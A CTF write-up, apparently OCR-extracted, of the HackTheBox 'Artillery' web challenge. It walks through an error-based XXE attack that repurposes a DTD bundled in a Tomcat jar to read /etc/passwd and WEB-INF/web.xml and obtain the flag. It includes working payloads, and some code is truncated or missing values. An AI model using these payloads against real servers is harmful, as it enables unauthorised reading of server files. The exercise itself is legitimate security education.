Cyber Apocalypse 2021 5/5 - Artillery

Artillery was a web challenge of the Cyber Apocalypse 2021 CTF organized by HackTheBox. We were given the source code of the server to help us solve the challenge. This challenge was a nice opportunity to learn more about XXE vulnerabilities.

First steps

When you enter a query in the search bar, like ‘qwerty’ and press enter, nothing happens.

The website will make a GET request on /airbase/?query=qwerty, and nothing more. Which is weird…

So, the next step is to have a look at the airbase.js JavaScript code:

async function getResults() {
  const query = document.getElementById("query").value;
  const xml = `<?xml version="1.0" encoding="ISO-8859-1"?><root><query>${query}</query></root>`;
  const response = await fetch('/search', {
    method: 'POST',
    headers: {
      'Content-Type' : 'application/xml'
    body: xmlWe have a getResults function which makes an XML POST query on /search.

Let’s hit the search endpoint with a random query!

Here is the corresponding curl command. Our query is ‘gun’:

curl 'http://<IP>:<PORT>/search' -H 'Content-Type: application/xml' -H 'Origin: http://<IP>:<PORT>' --data-raw '<?xml version="1.0" encoding="ISO-8859-1"?><root><query>gun</query></root>'

We have the following response:

[{"name": "Gunstar", "url":"gunstar.jpg", "desc":"Capable of both short and long-range space flight, the Gunstar is a two-person craft. It is approximately 20 meters in length and carries a complement of two operators, a pilot and a gunner."}, { "name" :"", "url" : "", "desc" : "" }]

Now, what ? Let’s have a look at the server code which was given to us!

Server setup

We are given the server code with a Dockerfile to boot!

Let’s setup the environment on our side:

# Build
docker build . -t web_artillery
# Run it
docker run -p 8080:8080 -name artilley web_artillery:latest

We can go into the container and have a look around using:

docker exec -it artillery bash


Where will the flag be?

The file WEB-INF/web.xml describes the routes served by the server:

  • one of them is /search, that we already know of;
  • the other one is /flag_hash. Will we get the flag by hitting /flag_hash? No!

In the file given, we have the following lines of code:hash=$(cat /dev/urandom | tr -dc 'a-zA-Z0-9' | fold -w 32 | head -n 1 | md5sum | cut -d ' ' -f 1)
sed -i "s/hash/$hash/g" /tomcat/webapps/ROOT/WEB-INF/web.xml

The /flag_hash route will have its hash part generated at the server setup, and will becomea /flag_aZ09rand0m route.

We also know, according to the file WEB-INF/classes/, that we will get the flag by making a GET query to that generated endpoint.

Therefore, if we can get the content of the WEB-INF/web.xml file, we will get the generated flag route, which will give us the flag through a GET request.

What vulnerability will we use?

We are sending XML to theserver. What is the first thing that comes to mind? XXE, or XML external entity injection!

However, we are going to have a hard time because of those lines in WEB-INF/classes/

// Make sekure!
dbf.setFeature("", false);
dbf.setFeature("", false);
dbf.setFeature("", false);
dbf.setFeature("", true);
dbf.setAttribute(XMLConstants.FEATURE_SECURE_PROCESSING, true);

This line:

dbf.setFeature("", true);

Will throw a fatal error if you use a DOCTYPE declaration in your XML.

And this one:

dbf.setFeature("", false);

Will not let you load external DTDs.


Focusing on local DTD files

Having tried some XXE payloads without success, I had another look at the given Dockerfile:

RUN find / -name "*.dtd" -type f -delete

The above line, which removes all .dtd files from the system, meant I was going to have a hard look at local DTD XXE.

By looking at the options using local DTD files in PayloadsAllTheThings, I tried the first payload:

<!DOCTYPE root [
    <!ENTITY % local_dtd SYSTEM "file:///abcxyz/">And we actually get an answer! /abcxyz (No such file or directory)
    at Method)

If we try with /etc/passwd, we have a different answer:

org.xml.sax.SAXParseException; systemId: file:///etc/passwd; lineNumber: 1; columnNumber: 1; The markup declarations contained or pointed to by the document type declaration must be well-formed.

Which means that this file exists!

We have a tomcat server

PayloadsAllTheThings links to a page with even more XXE payloads with DTD files involved.

Remember, all dtd files in the system were removed in the Dockerfile

But what about .jar files containing dtd files?

If we docker exec -it artillery bash, we can even look for them, they are in /tomcat/lib.

For example the file /tomcat/lib/jsp-api.jar exists. We can adapt one XXE payload given here:<!DOCTYPE message [
    <!ENTITY % local_dtd SYSTEM "file:///usr/local/tomcat/lib/jsp-api.jar!/javax/servlet/jsp/resources/jspxml.dtd">

    <!ENTITY % URI '(aa) #IMPLIED>
        <!ENTITY % file SYSTEM "file:///YOUR_FILE">
        <!ENTITY % eval "<!ENTITY % error SYSTEM 'file:///abcxyz/%file;'>">
        <!ATTLIST attxx aa "bb"'>


To our target system:

<!DOCTYPE message [
    Our jsp-api.jar is located in /tomcat/lib.I did not find the /javax path in jsp-api.jar
    But thankfully, the jspxml.dtd was in the /jakarta path
    <!ENTITY % local_dtd SYSTEM "jar:file:/tomcat/lib/jsp-api.jar!/jakarta/servlet/jsp/resources/jspxml.dtd">

    <!-- By targeting the WEB-INF/web.xml file, we will have the generated flag route
    In the returned Java error returned by the server.
    <!ENTITY % URI '(aa) #IMPLIED>
        <!ENTITY % file SYSTEM "file:////tomcat/webapps/ROOT/WEB-INF/web.xml">
        <!ENTITY % eval "<!ENTITY % error SYSTEM 'file:///abcxyz/%file;'>">
        <!ATTLIST attxx aa "bb"'>


And, it works! We have the following error message response: /abcxyz/<web-app version="3.0"
  xsi:schemaLocation="http:/ http:/"></web-app> (No such file or directory)

We get the flag route: /flag_9535b9714ef44eb8928bbe8b70e04198.

Now, we can redo the same steps on the live server. By making a GET request to the flag route given in the error response, we get the real flag CHTB{OOB_p1us_err0r_b@s3d_XXE_da_b0ss!}

Closing words

It was a nice XXE challenge which made me learn about XXE with local DTD files :)